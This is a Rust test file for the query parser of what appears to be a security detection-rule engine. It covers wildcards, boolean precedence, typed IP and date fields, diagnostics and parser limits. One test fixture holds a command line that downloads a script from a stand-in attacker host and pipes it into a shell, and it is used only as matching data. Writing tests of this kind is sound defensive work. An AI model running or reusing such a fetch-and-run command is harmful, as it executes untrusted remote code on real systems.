use expect_test::{Expect, expect};
use proptest::prelude::*;
use serde_json::{Value as Json, json};

use super::*;
use crate::compile::graph::CompiledCondition;
use crate::diagnostic::{Code, Severity};
use crate::fixture::OPTIONS;
use crate::naive::generate::broken;
use crate::record::Record;

fn check_each(document: Json, cases: &[(&str, bool)]) {
    let Json::Object(object) = &document else {
        panic!("not an object: {document}")
    };
    let mut record = Record::new();
    record.fill_from_document(object);
    for (query, expected) in cases {
        let mut findings = Findings::default();
        let Some(parsed) = parse(&OPTIONS, query, &mut findings) else {
            panic!("{query}: {:?}", findings.list)
        };
        assert_eq!(
            CompiledCondition::compile(&parsed).matches(&record),
            *expected,
            "{query} on {document}"
        );
    }
}

fn check_findings(query: &str, expected: Expect) {
    let mut findings = Findings::default();
    parse(&OPTIONS, query, &mut findings);
    let rendered: Vec<String> = findings
        .list
        .iter()
        .map(|finding| {
            let place = &query[finding.span.start as usize..finding.span.end as usize];
            let help = finding
                .help
                .as_ref()
                .map(|help| format!(" ({help})"))
                .unwrap_or_default();
            format!(
                "{:?} {} at `{place}`: {}{help}\n",
                finding.code.severity(),
                finding.code,
                finding.message
            )
        })
        .collect();
    expected.assert_eq(&rendered.concat());
}

#[test]
fn values_match_exactly_and_only_the_unquoted_star_is_a_wildcard() {
    check_each(
        json!({"process.name": "Net cat*", "process.args": ["a\\b", "x:y", "(z)", "q?"]}),
        &[
            ("process.name:Net cat\\*", true),
            (r#"process.name:"Net cat*""#, true),
            ("process.name:Net*", true),
            ("process.name:net*", false),
            ("process.name:*cat*", true),
            ("process.name : N*t*", true),
            (r#"process.name:"Net*""#, false),
            ("process.name:Net ca?*", false),
            ("process.args:q?", true),
            (r"process.args:a\\b", true),
            (r"process.args:x\:y", true),
            (r"process.args:\(z\)", true),
            (r#"process.args:"x:y""#, true),
            (r#""process.name":Net*"#, true),
            ("process.name.caseless:net*", true),
        ],
    );
}

#[test]
fn a_missing_field_matches_nothing_but_a_negation() {
    check_each(
        json!({"process.pid": 1, "container.id": ""}),
        &[
            ("process.name:*", false),
            ("process.name:a", false),
            ("not process.name:a", true),
            ("not process.name:*", true),
            ("process.pid:*", true),
            ("container.id:*", true),
            ("process.parent.pid >= 0", false),
            ("not process.parent.pid >= 0", true),
            ("*:*", true),
            ("*", true),
        ],
    );
}

#[test]
fn lists_combine_values_of_one_field_over_all_elements() {
    check_each(
        json!({"event.type": ["start", "info"], "process.name": "bash"}),
        &[
            ("event.type:(start or end)", true),
            ("event.type:(start and info)", true),
            ("event.type:(start and end)", false),
            ("event.type:(start and not end)", true),
            ("event.type:(not start)", false),
            ("event.type:(end OR (start AND info))", true),
            ("process.name:(sh or ba* or zsh)", true),
            ("process.name:(\"sh\" or \"zsh\")", false),
            ("not event.type:(end or change)", true),
        ],
    );
}

#[test]
fn keywords_in_any_case_bind_not_then_and_then_or() {
    check_each(
        json!({"process.pid": 1}),
        &[
            ("process.pid:1 OR process.pid:2 AND process.pid:2", true),
            ("(process.pid:1 or process.pid:2) and process.pid:2", false),
            ("NOT process.pid:2 and process.pid:2", false),
            ("not (process.pid:2 and process.pid:2)", true),
            ("not not process.pid:1", true),
            ("Not process.pid:1 Or process.pid:1", true),
        ],
    );
}

#[test]
fn numbers_booleans_and_dates_are_read_by_the_type_of_the_field() {
    check_each(
        json!({"process.pid": 42, "process.interactive": true, "@timestamp": "2026-01-02T00:00:00Z", "host.cpu.usage": 0.5}),
        &[
            ("process.pid:42", true),
            (r#"process.pid:"42""#, true),
            ("process.pid:(1 or 42)", true),
            ("process.pid > 41", true),
            ("process.pid>=42 and process.pid<=42", true),
            ("process.pid < 42", false),
            ("host.cpu.usage > 0.25", true),
            ("process.interactive:true", true),
            ("process.interactive:false", false),
            (r#"process.interactive:"true""#, true),
            (r#"@timestamp >= "2026-01-01""#, true),
            ("@timestamp < 2026-01-01", false),
        ],
    );
}

#[test]
fn an_address_field_takes_addresses_and_networks() {
    check_each(
        json!({"source.ip": ["10.1.2.3", "fe80::1"]}),
        &[
            ("source.ip:10.1.2.3", true),
            (r#"source.ip:"10.0.0.0/8""#, true),
            ("source.ip:10.0.0.0/16", false),
            (r#"source.ip:("192.168.0.0/16" or "fe80::/10")"#, true),
            ("source.ip:10.*", true),
            ("source.ip:(ten or 10.1.2.3)", true),
            (r#"source.ip:"::ffff:10.1.2.3""#, true),
            (r#"source.ip:"::ffff:10.0.0.0/104""#, true),
            (r#"source.ip:"FE80:0::0001""#, true),
            (r#"source.ip > "10.1.2.20""#, true),
            (r#"source.ip < "10.1.2.20" and not source.ip < "10.1.2.3""#, true),
            (r#"source.ip > "fe80::1""#, false),
            ("destination.ip:*", false),
        ],
    );
}

#[test]
fn a_text_field_is_compared_by_its_words() {
    check_each(
        json!({"process.command_line": "Curl -sSL http://evil.example/x.sh | SH", "message": ["one two", "three"]}),
        &[
            ("process.command_line.text:curl", true),
            ("process.command_line.text:cur", false),
            ("process.command_line.text:wget sh", true),
            (r#"process.command_line.text:"x.sh sh""#, true),
            (r#"process.command_line.text:"sh x.sh""#, false),
            (r#"process.command_line.text:"http://EVIL.example""#, true),
            ("process.command_line.text:EVIL*", true),
            ("process.command_line.text:*", true),
            (r#"process.command_line.text:"|""#, false),
            (r#"message:"two three""#, false),
            (r#"message:("two" or four)"#, true),
            ("not message:(four or five)", true),
            ("message > thr and message < two", true),
            ("process.*:curl", true),
            ("sh", true),
        ],
    );
}

#[test]
fn values_hold_blanks_and_end_at_keywords() {
    check_each(
        json!({"process.title": "nginx master order", "process.name": "and", "process.args": ["not this", "nothing", "a  b"]}),
        &[
            ("process.title:nginx master order", true),
            ("process.title:nginx master order and process.pid:1", false),
            ("process.title:nginx master order or process.pid:1", true),
            (r"process.name:\and", true),
            (r#"process.name:"and""#, true),
            (r"process.args:\not this", true),
            ("process.args:nothing", true),
            ("process.args:a  b ", true),
            (r#"process.title:nginx\u0020master*"#, true),
        ],
    );
}

#[test]
fn a_value_without_a_field_and_wildcard_fields_look_everywhere() {
    check_each(
        json!({"process.parent.name": "sshd", "process.pid": 22, "container.labels": {"team": "red"}}),
        &[
            ("sshd", true),
            ("ss*", true),
            ("\"sshd\"", true),
            ("22", true),
            ("red", true),
            ("bash", false),
            ("process.*:sshd", true),
            ("process.*name:sshd", true),
            ("host.*:sshd", false),
            ("process.p*:(1 or 22)", true),
            ("container.labels.team:red", true),
            ("container.labels.team:r*", true),
            ("container.labels.other:red", false),
        ],
    );
}

#[test]
fn findings_name_the_place_and_the_reason() {
    for (query, expected) in [
        (
            "process.nam:a and process.nme:b",
            expect![[r#"
                Warning undeclared-field at `process.nam`: no event has the field `process.nam`, which is not known here (did you mean `process.name`?)
                Warning undeclared-field at `process.nme`: no event has the field `process.nme`, which is not known here (did you mean `process.name`?)
            "#]],
        ),
        (
            "process.pid:abc",
            expect![[r#"
            Warning never-matches at `abc`: this can never match: `process.pid` does not hold such values
        "#]],
        ),
        (
            "process.pid:",
            expect![[r#"
            Error syntax at ``: expected a value or `(`, found the end of the query
        "#]],
        ),
        (
            "process.name:(a or",
            expect![[r#"
            Error syntax at ``: expected a value or `(`, found the end of the query
        "#]],
        ),
        (
            "process.name:(a or b",
            expect![[r#"
            Error syntax at ``: expected `and`, `or` or `)`, found the end of the query
        "#]],
        ),
        (
            "process:{ name:a }",
            expect![[r#"
            Error nested-query at `{`: queries of nested objects (`field:{..}`) are not supported
        "#]],
        ),
        (
            "process.name:a)",
            expect![[r#"
            Error syntax at `)`: expected `and`, `or` or the end of the query, found `)`
        "#]],
        ),
        (
            "process.name:\"a",
            expect![[r#"
            Error unclosed-text at `"`: the text has no closing `"`
        "#]],
        ),
        (
            "process.pid > 1*",
            expect![[r#"
            Error range-wildcard at `1*`: a range takes no wildcards
        "#]],
        ),
        (
            "and process.pid:1",
            expect![[r#"
            Error syntax at `a`: expected a field, a value or `(`, found `a`
        "#]],
        ),
        (
            "",
            expect![[r#"
                Warning matches-everything at ``: the query is empty, so it matches every event that the rule reads
            "#]],
        ),
    ] {
        check_findings(query, expected);
    }
}

#[test]
fn behind_an_error_the_rest_is_read() {
    check_findings(
        r#"process.pid:(1 or : or 2) and (process.nam:"a)" or process.name:"a" "b") and process.pid > 1*"#,
        expect![[r#"
            Error syntax at `:`: expected a value or `(`, found `:`
            Error syntax at `"`: expected `and`, `or` or `)`, found `"`
            Warning undeclared-field at `process.nam`: no event has the field `process.nam`, which is not known here (did you mean `process.name`?)
            Error range-wildcard at `1*`: a range takes no wildcards
        "#]],
    );
    check_findings(
        "process.pid:1 : and (process.name:: or",
        expect![[r#"
        Error syntax at `:`: expected `and`, `or` or the end of the query, found `:`
    "#]],
    );
}

proptest! {
    #[test]
    fn each_broken_operand_is_an_error(
        (query, errors) in broken(&[
            "process.name:",
            r#"process.name:"a" "and""#,
            "process.pid:(1 or : or 2)",
            "(process.pid:1 : process.pid:2)",
            "process.pid > 1*",
            "process.args:{a:b}",
        ], "process.pid:1")
    ) {
        let mut findings = Findings::default();
        let parsed = parse(&OPTIONS, &query, &mut findings);
        prop_assert_eq!(parsed.is_some(), errors == 0);
        let found = findings.list.iter().filter(|finding| finding.code.severity() == Severity::Error).count();
        prop_assert_eq!(found, errors, "{} {:?}", query, findings.list);
    }
}

#[test]
fn every_limit_is_an_error_of_the_query() {
    let code = |query: String| {
        let mut findings = Findings::default();
        assert!(parse(&OPTIONS, &query, &mut findings).is_none());
        let mut codes = findings.list.iter().map(|finding| finding.code);
        codes.find(|code| code.severity() == Severity::Error)
    };
    assert_eq!(
        code(format!("{}a:b{}", "(".repeat(10_000), ")".repeat(10_000))),
        Some(Code::Nesting)
    );
    assert_eq!(
        code(format!("{}process.pid:1", "not ".repeat(10_000))),
        Some(Code::Nesting)
    );
    assert_eq!(
        code(format!("process.pid:({}1)", "1 or ".repeat(10_000))),
        Some(Code::ListTooLong)
    );
    assert_eq!(
        code(format!("process.name:{}", "a*".repeat(1_000))),
        Some(Code::PatternTooLong)
    );
    assert_eq!(code("a or ".repeat(1_000) + "a"), Some(Code::TooManyFields));
    assert_eq!(code(" ".repeat(300_000)), Some(Code::QueryTooLong));
}

proptest! {
    #[test]
    fn no_text_makes_the_parser_panic(text in r#"([a-z.?"()\[\]{}<>=!:*\\ \n0-9é]|process\.(name|pid)|and|or|not |:|\\u00e9){0,60}"#) {
        let mut findings = Findings::default();
        let parsed = parse(&OPTIONS, &text, &mut findings);
        prop_assert!(parsed.is_some() || findings.has_errors());
    }
}

#[test]
fn a_date_stands_for_all_that_it_leaves_open() {
    check_each(
        json!({"@timestamp": "2026-01-31T10:00:00Z"}),
        &[
            (r#"@timestamp <= "2026-01-31""#, true),
            (r#"@timestamp > "2026-01-31""#, false),
            (r#"@timestamp >= "2026-01-31""#, true),
            (r#"@timestamp < "2026-01-31""#, false),
            ("@timestamp > 2026-01-30", true),
            ("@timestamp <= 2026-01", true),
            ("@timestamp < 2026-01", false),
            ("@timestamp: 2026-01-31", true),
            ("@timestamp: (2026-01-30 or 2026)", true),
            ("@timestamp: 2026-01-30", false),
            (r#"@timestamp: "2026-01-31T10:00""#, true),
            (r#"@timestamp: "2026-01-31T11:00:00+01:00""#, true),
            ("@timestamp: 1769853600000", true),
            ("@timestamp > 1769853600000", false),
            ("@timestamp > 1769853599999", true),
        ],
    );
}

#[test]
fn now_is_the_time_of_the_event() {
    check_each(
        json!({"@timestamp": "2026-01-31T10:00:00Z", "process.start": "2026-01-31T10:00:00Z"}),
        &[
            ("@timestamp >= now-1d", true),
            ("@timestamp < now-1d", false),
            ("@timestamp > now-1d/d", true),
            ("@timestamp >= now-1d/d", true),
            ("@timestamp <= now/d", true),
            ("@timestamp < now+5m", true),
            ("@timestamp > now-1h+30m", true),
            ("@timestamp > now-1d+2d", false),
            ("@timestamp >= now", true),
            ("@timestamp > now", false),
            ("process.start > now-1d", false),
        ],
    );
    for query in [
        "@timestamp > now+é",
        "@timestamp > now-",
        "@timestamp > now-1x",
        "@timestamp < now+1h/d",
        "process.start > now-1d",
    ] {
        let mut findings = Findings::default();
        parse(&OPTIONS, query, &mut findings);
        let codes: Vec<Code> = findings.list.iter().map(|finding| finding.code).collect();
        assert_eq!(codes, [Code::NeverMatches], "{query}");
    }
}

#[test]
fn what_nobody_declared_no_event_has() {
    check_each(
        json!({"process.name": "curl"}),
        &[
            ("no.such: *", false),
            ("not no.such: 1", true),
            ("no.such > 1", false),
            ("process.name: curl and not no.such: x", true),
        ],
    );
    check_findings(
        "process.nme: curl or no.such > 1 or curl",
        expect![[r#"
            Warning undeclared-field at `process.nme`: no event has the field `process.nme`, which is not known here (did you mean `process.name`?)
            Warning undeclared-field at `no.such`: no event has the field `no.such`, which is not known here
            Warning costly at `curl`: text without a field is looked for in every field of every event (name the field: `process.name: value`)
        "#]],
    );
}
